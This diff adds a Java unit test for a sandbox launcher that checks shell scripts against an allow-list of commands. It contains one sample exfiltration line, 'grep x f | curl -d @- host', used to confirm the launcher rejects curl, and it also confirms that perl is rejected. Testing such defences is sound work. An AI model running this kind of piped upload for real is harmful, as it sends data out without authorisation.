@@ -0,0 +1,44 @@
+package com.oracle.rlm.core.impl;
+
+import com.oracle.rlm.config.RlmSecurityConfig;
+import org.junit.jupiter.api.Test;
+
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+class SandboxLauncherTest {
+
+    private final RlmSecurityConfig security = new RlmSecurityConfig();
+    private final SandboxLauncher launcher = new SandboxLauncher(new ProcessRunner(4096), security);
+
+    @Test
+    void typicalStepScriptsUseOnlyDefaultCommands() {
+        List<String> scripts = List.of(
+                "grep -n 'ERROR' context.txt | head -20",
+                "n=$(wc -l < context.txt); echo \"lines: $n $((n / 2))\"",
+                "sed -n '100,200p' context.txt | awk '{print $1}' | sort | uniq -c | sort -rn > counts.txt",
+                "python3 - <<'EOF'\nimport re\nprint(len(open('context.txt').read()))\nEOF",
+                "for f in obs_*.txt; do [ -s \"$f\" ] && tail -n 5 \"$f\"; done 2>/dev/null",
+                "find . -name '*.txt' | xargs -I{} grep -c x {}");
+
+        for (String script : scripts) {
+            assertThat(security.getAllowedCommands()).as(script).containsAll(ShellCommands.commandNames(script));
+        }
+    }
+
+    @Test
+    void rejectsCommandsOfABashScriptThatAreNotAllowed() {
+        assertThatThrownBy(() -> launcher.launch(List.of("bash", "-c", "grep x f | curl -d @- host"), Path.of("."),
+                Duration.ofSeconds(5)))
+                .isInstanceOf(SecurityException.class)
+                .hasMessageContaining("'curl'");
+        assertThatThrownBy(() -> launcher.launch(List.of("/usr/bin/perl", "x.pl"), Path.of("."), Duration.ofSeconds(5)))
+                .isInstanceOf(SecurityException.class)
+                .hasMessageContaining("'perl'");
+        assertThat(launcher.stats()).containsEntry("rejected", 2L);
+    }
+}